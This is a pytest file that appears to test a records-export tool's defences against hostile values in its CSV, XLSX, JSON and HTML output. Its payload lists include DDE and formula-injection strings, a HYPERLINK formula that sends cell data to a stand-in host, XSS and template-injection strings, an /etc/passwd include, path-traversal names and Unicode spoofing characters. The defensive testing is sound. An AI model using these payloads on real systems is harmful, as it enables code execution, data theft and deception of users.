"""Hostile values in the copy: nothing runs, nothing misleads, nothing is lost, in every format."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from functools import cache
from typing import Any

import openpyxl
import pytest

from calends.exports.archive import Record, write_reply_archive
from calends.exports.csv_rows import DELIMITERS
from calends.exports.schema import DataSetFacts
from calends.letters.inputs import SystemOutcome
from calends.letters.render import render
from calends.letters.samples import sample_facts
from calends.redaction.detect import suspects
from calends.redaction.subject import Subject
from calends.rules.vocabulary import Language, SearchState
from tests.exports.test_archive import AT
from tests.exports.test_page import Reader

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "   =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "＝1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '"=1+1',
    "'=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><script>x</script>",
    "]]></t></is></c><f>1+1</f>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "&lt;b&gt; &amp; &#x3C;",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "<!--#include file='/etc/passwd'-->",
    "</style><style>*{display:none}",
]
MISLEADING = [
    "invoice\u202egnp.exe",
    "a\u2066b\u2069c\u2067d",
    "x\x1b[31my",
    "a\x08\x08b",
    "\U000e0041",
]
HONEST = ["مرحبا 12 شكرا", "שלום", "中文　字", "é😀ﬁ", "a\u200db", "line\nbreak\ttab"]
EVERYTHING = [*FORMULAS, *MARKUP, *MISLEADING, *HONEST]
FORMULA_SIGNS = tuple("=+-@\t\r\n\0＝＋－＠")


def copy(
    records: Iterator[Record] | list[Record], language: Language = Language.FR, **more: Any
) -> zipfile.ZipFile:
    readme = render("archive_readme", language, sample_facts(language)["archive_readme"][0])
    outcomes = more.pop("outcomes", [])
    made = write_reply_archive(readme, records, outcomes, modified=AT, **more)
    return zipfile.ZipFile(io.BytesIO(b"".join(made)))


@cache
def hostile(language: Language) -> zipfile.ZipFile:
    """Every hostile value, as value, as name of a field, and inside a document."""
    return copy([("s", "c", {"v": v, v: "x", "doc": {v: [v]}}) for v in EVERYTHING], language)


def test_json_holds_every_value_exactly() -> None:
    rows = json.loads(hostile(Language.FR).read("data/s/c.json"))
    assert [row["v"] for row in rows] == EVERYTHING
    assert [row["doc"] for row in rows] == [{v: [v]} for v in EVERYTHING]
    assert all(v in row for row, v in zip(rows, EVERYTHING, strict=True))


@pytest.mark.parametrize("language", Language)
def test_no_cell_of_the_csv_begins_a_formula_in_a_spreadsheet_of_that_language(
    language: Language,
) -> None:
    for cell in cells(hostile(language), language, DELIMITERS[language]):
        assert not cell.startswith(FORMULA_SIGNS), repr(cell)
        assert not cell.lstrip(" \t\r\n\u00a0\u200b\ufeff\u202e").startswith(FORMULA_SIGNS), repr(
            cell
        )
        assert "\0" not in cell


@pytest.mark.parametrize("language", Language)
@pytest.mark.parametrize("wrong", [",", ";", "\t"])
def test_no_cell_begins_a_formula_when_the_file_is_cut_by_another_delimiter(
    language: Language, wrong: str
) -> None:
    """Quotes then stand inside cells, and what follows a delimiter or a line break begins one."""
    values = [f"note{cut}{formula}" for cut in ",;\t\n" for formula in ("=1+1", "@SUM(A1)")]
    values += [f"x{cut}-2+cmd|' /C calc'!A0" for cut in ",;\t\n"]
    archive = copy([("s", "c", {"a": "b", "v": value}) for value in values], language)
    for cell in cells(archive, language, wrong):
        dangerous = cell.lstrip(" \"'")[:1] in ("=", "@")
        assert not dangerous or cell.lstrip(' "').startswith("'"), repr(cell)
        assert not cell.lstrip(' "').startswith("-2+cmd"), repr(cell)


def cells(archive: zipfile.ZipFile, language: Language, delimiter: str) -> Iterator[str]:
    text = archive.read("csv/s/c.csv").decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, ""), delimiter=delimiter):
        yield from row


def test_every_text_of_the_workbook_is_a_text_and_none_is_a_formula_or_a_link() -> None:
    content = hostile(Language.FR).read("data.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(content))
    seen = []
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert cell.hyperlink is None
            if cell.value is not None:
                assert (cell.data_type, cell.quotePrefix) == ("s", True)
                seen.append(cell.value)
    assert "=1+1" in seen
    inner = zipfile.ZipFile(io.BytesIO(content))
    xml = b"".join(map(inner.read, inner.namelist()))
    assert b"<f>" not in xml
    assert b"externalLink" not in xml


PLAIN_TAGS = frozenset(
    [
        *("html", "head", "meta", "title", "style", "body", "header", "main", "nav", "section"),
        *("h1", "h2", "p", "ol", "ul", "li", "a", "bdi", "div", "span", "strong"),
        *("table", "caption", "thead", "tbody", "tr", "th", "td"),
    ]
)
PLAIN_ATTRIBUTES = frozenset(
    [
        *("lang", "charset", "http-equiv", "content", "name", "id", "href", "class", "scope"),
        *("dir", "aria-labelledby"),
    ]
)


def test_no_value_is_markup_on_the_page_nor_leaves_its_cell() -> None:
    text = hostile(Language.FR).read("index.html").decode()
    seen = Reader(text)
    assert seen.open == []
    tags = {tag for tag, _ in seen.tags}
    assert tags <= PLAIN_TAGS
    attributes = {name for _, given in seen.tags for name in given}
    assert attributes <= PLAIN_ATTRIBUTES
    assert all(str(a["href"]).startswith("#") for tag, a in seen.tags if tag == "a")
    for value in (*MARKUP, *HONEST):
        assert value in seen.text


def test_signs_that_turn_or_hide_text_are_shown_by_their_number_on_the_page() -> None:
    text = hostile(Language.FR).read("index.html").decode()
    assert not set(text) & set("\u202e\u2066\u2067\u2069\x1b\x08\0\U000e0041")
    for number in ("202E", "2066", "001B", "0008", "E0041"):
        assert f"U+{number}" in text


def test_hostile_names_of_systems_and_data_sets_make_no_path_and_no_markup() -> None:
    names = ["../../etc/passwd", "C:\\x", "a/b", "<script>", "con", "", "\u202ex", "x" * 300, "=1"]
    records: list[Record] = [(name, name, {"v": name}) for name in names]
    facts = {(name, name): DataSetFacts(name, name, name) for name in names}
    outcome = SystemOutcome(name="<b>", state=SearchState.SKIPPED, reason="<i>\n\u202e")
    archive = copy(records, facts=facts, masked=lambda: ["<u>"], outcomes=[outcome])
    for path in archive.namelist():
        assert not path.startswith(("/", "\\"))
        assert ".." not in path.split("/")
        assert path.isascii()
        assert len(path) < 200
    assert len(set(map(str.lower, archive.namelist()))) == len(archive.namelist())
    seen = Reader(archive.read("index.html").decode())
    assert not {"script", "b", "i", "u"} & {tag for tag, _ in seen.tags}
    titles = openpyxl.load_workbook(io.BytesIO(archive.read("data.xlsx"))).sheetnames
    assert len(titles) == len(names)


HUGE = "=" + "é" * 12_000_000 + "x" * 26_000_000
"""50 MB in UTF-8."""
_MEASURED = """
import resource
from tests.attacks.test_export_values import HUGE, copy
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
copy([("s", "c", {"id": 1, "v": HUGE})])
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


def test_a_value_of_fifty_megabytes_is_given_whole_in_every_data_file() -> None:
    archive = copy([("s", "c", {"id": 1, "v": HUGE}), ("s", "c", {"id": 2, "v": "small"})])
    assert json.loads(archive.read("data/s/c.json"))[0]["v"] == HUGE
    assert archive.read("csv/s/c.csv").decode("utf-8-sig").count("é") == 12_000_000
    assert len(archive.read("index.html")) < 200_000


def test_a_value_of_fifty_megabytes_takes_a_few_times_its_size_in_memory_not_once_a_format() -> (
    None
):
    """In a process of its own: what libraries reserve and never touch is no memory."""
    ran = subprocess.run(
        [sys.executable, "-c", _MEASURED], capture_output=True, check=True, text=True
    )
    assert int(ran.stdout) * 1024 < 320_000_000


def test_many_fields_that_differ_from_record_to_record_stay_in_bounded_memory() -> None:
    records: Iterator[Record] = (("s", "c", {f"f{n}": n, "id": n}) for n in range(3_000))
    archive = copy(records)
    assert len(json.loads(archive.read("data/s/c.json"))) == 3_000
    assert archive.read("csv/s/c.csv").decode("utf-8-sig").splitlines()[0].count("f") == 3_000


REPEATED = [
    "a", " ", "\n", "1 ", "A ", "M. ", "a@", "FR76 ", "1 rue ", "Jean ", "Jean-", "le ", "1", "a.",
    "1-", "+1", "(0) ", "12345 AB ", "'", "12 Aa ", "Mme d'", "selon ", "a a dit ", "\u202e", "é",
]  # fmt: skip


@pytest.mark.timeout(120)
@pytest.mark.parametrize("text", REPEATED)
def test_no_text_keeps_the_search_for_others_busy_for_long(text: str) -> None:
    """Seconds for the longest text that is looked through, never minutes."""
    found = suspects(text * (200_000 // len(text)), Subject())
    assert all(span.start < span.end for span in found)
